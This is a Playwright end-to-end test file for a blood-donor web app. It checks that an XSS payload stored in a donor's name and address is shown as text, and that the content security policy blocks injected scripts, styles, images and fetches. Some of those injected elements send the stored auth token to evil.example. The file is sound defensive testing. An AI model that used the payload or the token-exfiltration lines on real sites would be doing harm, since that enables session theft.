import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { call } from '../support/call.ts';
import { addPerson, addProfile } from '../support/near-people.ts';
import { expect, test } from '../support/server.ts';

const TAG = '<img src=x onerror="document.title=1">';

test('a visitor reads the tags that a donor wrote into their name and address as text; a script or a style that got into a page is not taken, and can send the token nowhere', async ({
  page,
  server,
}) => {
  const { token } = await addPerson(server, 'donor');
  await addProfile(server, token, { address: `${TAG} Springfield`, nameDisplay: 'whole' });
  await call(server, 'PATCH', '/api/auth/me', { body: { name: `${TAG} Ana` }, token });
  for (const path of ['/donors?bloodType=B-', '/matching?bloodType=B-', '/requests?list=donors']) {
    await page.goto(path);
    await expect(page.getByText(`${TAG} Ana`).first(), path).toBeVisible();
    await expect(page.getByText(`${TAG} Springfield`).first(), path).toBeVisible();
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    expect(await page.title()).not.toBe('1');
  }

  await page.evaluate((stored) => localStorage.setItem('token', stored), token);
  const stolen: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    stolen.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.evaluate(async () => {
    const { dataset } = document.documentElement;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      dataset['refused'] = `${dataset['refused'] ?? ''} ${effectiveDirective}`;
    });
    const inline = document.createElement('script');
    inline.textContent = 'document.documentElement.dataset.ran = "inline"';
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    const image = document.createElement('img');
    image.setAttribute('onerror', 'document.documentElement.dataset.ran = "handler"');
    image.src = `https://evil.example/?${localStorage.getItem('token')}`;
    const style = document.createElement('style');
    style.textContent = 'main { display: none }';
    document.body.append(inline, remote, image, style);
    await fetch(`https://evil.example/?${localStorage.getItem('token')}`).catch(() => {});
  });
  const html = page.locator('html');
  for (const directive of ['script-src-elem', 'style-src-elem', 'img-src', 'connect-src']) {
    await expect(html).toHaveAttribute('data-refused', new RegExp(directive));
  }
  await expect(html).not.toHaveAttribute('data-ran');
  await expect(page.locator('main')).toBeInViewport();
  expect(stolen).toEqual([]);
});

// Neither page has a content policy of its own: what blocks the read is the browser.
test('the browser keeps the same-origin policy, so that what these tests show is true', async ({ page }) => {
  const [own, stranger] = [await serveText('own'), await serveText('secret')];
  await page.goto(own.url);
  const read = (url: string) =>
    page.evaluate(async (address) => {
      try {
        return await (await fetch(address)).text();
      } catch {
        return 'blocked';
      }
    }, url);
  expect(await read(own.url)).toBe('own');
  expect(await read(stranger.url)).toBe('blocked');
  own.server.close();
  stranger.server.close();
});

async function serveText(text: string): Promise<{ server: Server; url: string }> {
  const server = createServer((_, response) => response.end(text)).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return { server, url: `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/` };
}
